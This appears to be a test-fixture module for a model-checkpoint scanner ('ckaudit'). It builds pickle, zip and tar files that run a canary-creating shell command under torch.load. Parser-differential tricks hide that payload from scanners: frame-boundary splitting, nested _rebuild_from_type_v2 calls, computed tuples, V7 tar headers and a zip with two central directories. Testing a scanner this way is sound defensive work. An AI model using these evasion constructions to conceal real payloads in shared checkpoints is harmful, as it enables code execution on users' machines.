"""Attacks where ckaudit's reading of the bytes could differ from torch.load's (our own designs).

Each builder writes a file whose payload creates `canary` under `torch.load(path, weights_only=False)`,
while a reader that read the bytes the way Python's pickle.loads, zipfile or a ustar check does would see
something harmless: frame boundaries, text opcodes as C parses them, opcode uses a walker may not model,
allowed callables laundering others through nesting or computed tuples, a pickle that looks like
safetensors, a V7 tar, a zip with two central directories.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.reader import reader_fixtures as fx
from tests.reader import streams
from tests.reader.attacks import call_body


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _touch(canary: Path) -> bytes:
    return call_body("posix", "system", f"touch {canary}")


def frame_boundary(canary: Path) -> bytes:
    """pickle.loads reads the string 'abcde' and stops; the C unpickler reading a file drops the rest of
    the frame when the string crosses its end, reads 'cde.!' and runs what follows."""
    frame = b"\x8c\x05ab"  # SHORT_BINUNICODE of 5 bytes, 2 of them inside the frame
    after = b"cde.!" + _touch(canary) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after


def text_int_hex(canary: Path) -> bytes:
    """`I0x0`: C's strtol reads it (base 0), pickletools' int() does not."""
    return b"\x80\x02I0x0\n0" + _touch(canary) + b"."


def bytearray_appends(canary: Path) -> bytes:
    """APPENDS onto a bytearray (bytearray.extend): C does it, a walker modelling only lists stops."""
    return b"\x80\x05\x96" + struct.pack("<Q", 0) + b"(KAe0" + _touch(canary) + b"."


def setitem_on_list(canary: Path) -> bytes:
    """SETITEM on a list (list[0] = 5): C calls __setitem__, a walker modelling only dicts stops."""
    return b"\x80\x02]K\x01aK\x00K\x05s0" + _touch(canary) + b"."


def _rebuild(func: bytes, args: bytes) -> bytes:
    """torch._tensor._rebuild_from_type_v2(func, torch.Tensor, args, {}) as pickle opcodes."""
    return b"ctorch._tensor\n_rebuild_from_type_v2\n(" + func + b"ctorch\nTensor\n" + args + b"}tR"


def nested_rebuild(canary: Path) -> bytes:
    """_rebuild_from_type_v2 calling _rebuild_from_type_v2 calling uuid._get_command_stdout (no list
    names it): only the outer call's arguments are visible as arguments."""
    inner = b"(" + b"cuuid\n_get_command_stdout\n" + b"ctorch\nTensor\n" + b"(" + _text("touch")
    inner += _text(str(canary)) + b"t}t"
    return b"\x80\x02" + _rebuild(b"ctorch._tensor\n_rebuild_from_type_v2\n", inner) + b"."


def computed_tuple(canary: Path) -> bytes:
    """_rebuild_from_type_v2(*builtins.tuple([...])): the argument tuple exists only at load time."""
    items = b"(lcuuid\n_get_command_stdout\nactorch\nTensor\na(" + _text("touch") + _text(str(canary))
    items += b"ta}a"
    computed = b"cbuiltins\ntuple\n(" + items + b"tR"
    return b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n" + computed + b"R."


def reconstructor_nested(canary: Path) -> bytes:
    """copyreg._reconstructor(FileHandler, FileHandler, path) inside _rebuild_from_type_v2: base.__init__
    opens (creates) the file."""
    args = b"(clogging\nFileHandler\nclogging\nFileHandler\n" + _text(str(canary)) + b"t"
    return b"\x80\x02" + _rebuild(b"ccopyreg\n_reconstructor\n", args) + b"."


def safetensors_lookalike(canary: Path) -> bytes:
    """Byte 8 is `{`, as in a safetensors header; torch.load unpickles it all the same."""
    return b"\x80\x02U\x08abcd{xyz0" + _touch(canary) + b"."


def write_v7_tar(canary: Path, out: Path) -> None:
    """torch's tar format without the ustar magic (tarfile accepts V7 headers); its object pickle runs the
    payload, while the file read as a pickle from byte 0 is nothing."""
    main = b"\x80\x02" + _touch(canary) + b"."
    streams.write_tar_checkpoint(out, main, [1.0])
    data = bytearray(out.read_bytes())
    with tarfile.open(out) as tar:
        headers = [m.offset for m in tar.getmembers()]
    for at in headers:
        data[at + 257 : at + 265] = bytes(8)  # magic and version gone: a V7 header
        data[at + 148 : at + 156] = b" " * 8
        checksum = sum(data[at : at + 512])
        data[at + 148 : at + 156] = b"%06o\x00 " % checksum
    out.write_bytes(bytes(data))


def _stored_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _directory(data: bytes) -> tuple[int, int, int]:
    """(offset, size, entries) of a plain zip's central directory, from its end record."""
    end = data.rindex(b"PK\x05\x06")
    entries, size, offset = struct.unpack("<HII", data[end + 10 : end + 20])
    return offset, size, entries


def two_directories(canary: Path, base: Path) -> bytes:
    """A malicious archive M, then a benign one A whose end record states M's directory offset: miniz
    (torch) reads M's directory there, Python's zipfile the one just before the end record (A's, every
    offset shifted by the difference)."""
    with zipfile.ZipFile(base) as src:
        members = {info.filename: src.read(info) for info in src.infolist()}
    prefix = next(iter(members)).split("/")[0]
    evil = {**members, f"{prefix}/x": b"x" * 4096}  # more bytes before its directory than A
    evil[next(n for n in members if n.endswith("/data.pkl"))] = b"\x80\x02" + _touch(canary) + b"."
    benign = {**members, **{f"{prefix}/extra/padding{i}": b"" for i in range(3)}}  # a bigger directory
    m, a = _stored_zip(evil), _stored_zip(benign)
    m_offset, _m_size, m_entries = _directory(m)
    m_body = m[: m.rindex(b"PK\x05\x06")]
    a_offset, a_size, _a_entries = _directory(a)
    shift = len(m_body)
    directory = bytearray(a[a_offset : a_offset + a_size])
    physical = shift + a_offset
    concat = physical - m_offset  # what zipfile adds to every offset A's directory states
    at = 0
    while at < len(directory):
        (relative,) = struct.unpack("<I", directory[at + 42 : at + 46])
        directory[at + 42 : at + 46] = struct.pack("<I", shift + relative - concat)
        name_len, extra_len, comment_len = struct.unpack("<HHH", directory[at + 28 : at + 34])
        at += 46 + name_len + extra_len + comment_len
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, m_entries, m_entries, a_size, m_offset, 0)
    return m_body + a[:a_offset] + bytes(directory) + end


BYTE_ATTACKS: dict[str, Callable[[Path], bytes]] = {
    "frame_boundary": frame_boundary,
    "text_int_hex": text_int_hex,
    "bytearray_appends": bytearray_appends,
    "setitem_on_list": setitem_on_list,
    "nested_rebuild": nested_rebuild,
    "computed_tuple": computed_tuple,
    "reconstructor_nested": reconstructor_nested,
}


def write_all(folder: Path, canary: Path, base: Path) -> dict[str, Path]:
    """name -> file: the byte attacks as data.pkl of a real archive, and the format attacks."""
    files = {}
    for name, build in BYTE_ATTACKS.items():
        files[name] = folder / f"{name}.pt"
        fx.replace_data_pkl(base, build(canary), files[name])
    # torch 2.13 sends a path ending in .safetensors to the safetensors library by its name
    files["safetensors_lookalike"] = folder / "lookalike.bin"
    files["safetensors_lookalike"].write_bytes(safetensors_lookalike(canary))
    files["v7_tar"] = folder / "v7.tar"
    write_v7_tar(canary, files["v7_tar"])
    files["two_directories"] = folder / "two_directories.pt"
    files["two_directories"].write_bytes(two_directories(canary, base))
    return files


def loads_is_harmless(data: bytes) -> bool:
    """What pickle.loads over the bytes (no file object) does for the frame attack: no payload."""
    return pickle.loads(data) == "abcde"
